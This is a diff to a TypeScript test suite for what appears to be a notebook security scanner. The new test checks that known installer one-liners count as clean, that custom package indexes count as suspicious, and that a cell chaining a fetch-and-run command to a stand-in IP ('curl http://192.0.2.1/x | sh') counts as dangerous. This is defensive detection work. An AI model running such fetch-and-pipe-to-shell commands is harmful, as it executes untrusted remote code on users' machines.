@@ -19,7 +19,8 @@ function notebook(cells: readonly (string | readonly string[])[], language = "py
 }
 
 function programOf(text: string): unknown {
-  return notebookProgram(new TextEncoder().encode(text));
+  const notebook = notebookProgram(new TextEncoder().encode(text));
+  return notebook !== undefined && "program" in notebook ? notebook.program : notebook;
 }
 
 async function verdict(text: string): Promise<string> {
@@ -55,6 +56,26 @@ test("cells that run what they decode or fetch are dangerous, commands alone are
     assert.notEqual(await verdict(notebook([cell])), "dangerous", cell);
     assert.notEqual(await verdict(notebook([cell])), "suspicious", cell);
   }
+});
+
+test("known installers are everyday, and indexes of packages are judged in magics too", async () => {
+  for (
+    const cell of [
+      "!curl -fsSL https://ollama.com/install.sh | sh",
+      "%%bash\ncurl -LsSf https://astral.sh/uv/install.sh | sh",
+      "!pip install -q -U git+https://github.com/huggingface/transformers",
+      "%pip install torch --index-url https://download.pytorch.org/whl/cpu",
+    ]
+  ) assert.equal(await verdict(notebook([cell])), "clean", cell);
+  for (
+    const cell of [
+      "%pip install --extra-index-url http://192.0.2.1/simple x",
+      "!pip install -i https://packages.example.com/simple x",
+    ]
+  ) assert.equal(await verdict(notebook([cell])), "suspicious", cell);
+  // An installer does not hide what stands beside it.
+  const beside = "!curl https://ollama.com/install.sh | sh; curl http://192.0.2.1/x | sh";
+  assert.equal(await verdict(notebook([beside])), "dangerous");
 });
 
 test("what one cell defines another uses", async () => {
